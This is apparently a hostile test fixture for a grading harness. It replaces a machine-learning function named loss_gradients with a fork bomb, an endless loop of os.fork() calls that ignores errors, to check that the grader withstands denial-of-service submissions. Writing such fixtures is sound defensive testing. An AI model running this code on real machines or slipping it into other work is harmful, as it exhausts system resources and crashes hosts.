"""Hostile fixture `fork_bomb` (denial of service): every process forks again, forever (and keeps
trying when refused).

tests/test_hostile.py puts this into the reference's module (each function replaces the reference's
of the same name) and grades it."""

import os


def loss_gradients(forward_info, weights):
    while True:
        try:
            os.fork()
        except OSError:
            pass
